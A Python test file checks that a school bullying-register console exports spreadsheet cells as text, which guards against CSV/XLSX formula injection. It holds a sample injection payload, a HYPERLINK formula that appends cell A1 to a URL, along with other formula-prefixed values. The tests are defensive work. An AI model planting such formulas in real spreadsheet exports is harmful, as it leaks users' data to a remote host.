"""Issue 16: text that a spreadsheet would run as a formula is exported as text (read back with
openpyxl: the cell's type is a string, never a formula; the CSV cell starts with ')."""

from __future__ import annotations

import csv
import io

import openpyxl

from tests.registers.test_console import MONTH, _cases
from tests.support.web import csrf_from, login

EVIL = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"点这里")'
GRADE = '=HYPERLINK("x")'  # the register keeps 16 characters of a grade


def _cells(content: bytes) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


async def test_register_grade_is_text_in_the_xlsx(client, db_url: str) -> None:  # noqa: ANN001
    ids = await _cases()
    await login(client, "lead.a")
    form = await client.get(f"/console/bullying/{ids[0]}")
    data = {
        "csrf_token": csrf_from(form.text),
        "grade": GRADE,
        "bullying_type": "physical",
        "investigation": "completed",
        "investigated_on": "2025-10-16",
        "determination": "bullying",
        "handling": ["education"],
    }
    saved = await client.post(f"/console/bullying/{ids[0]}", data=data, follow_redirects=False)
    assert saved.status_code == 303
    export = await client.get(f"/console/bullying/export.xlsx?month={MONTH}")
    cells = [c for c in _cells(export.content) if c.value == GRADE]
    assert cells, "the grade is in the register"
    assert all(c.data_type == "s" for c in cells)
    assert not [c for c in _cells(export.content) if c.data_type == "f"]


async def test_school_name_is_text_in_statistics(client, db_url: str) -> None:  # noqa: ANN001
    await _cases()
    await login(client, "admin.district")
    page = await client.get("/console/admin/schools")
    for code, name in (("sch-evil", EVIL), ("sch-plus", "+1+2"), ("sch-at", "@SUM(1)")):
        added = await client.post(
            "/console/admin/schools",
            data={"code": code, "name": name, "csrf_token": csrf_from(page.text)},
            follow_redirects=False,
        )
        assert added.status_code == 303, added.text[:300]
    xlsx = await client.get(f"/console/statistics/export.xlsx?month={MONTH}")
    cells = _cells(xlsx.content)
    assert [c for c in cells if c.value == EVIL], "the school is a column of the statistics"
    assert not [c for c in cells if c.data_type == "f"]
    assert all(c.data_type == "s" for c in cells if str(c.value).startswith(("=", "+", "@")))

    exported = await client.get(f"/console/statistics/export.csv?month={MONTH}")
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    values = [value for row in rows for value in row]
    assert "'" + EVIL in values and "'+1+2" in values and "'@SUM(1)" in values
    assert not [v for v in values if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
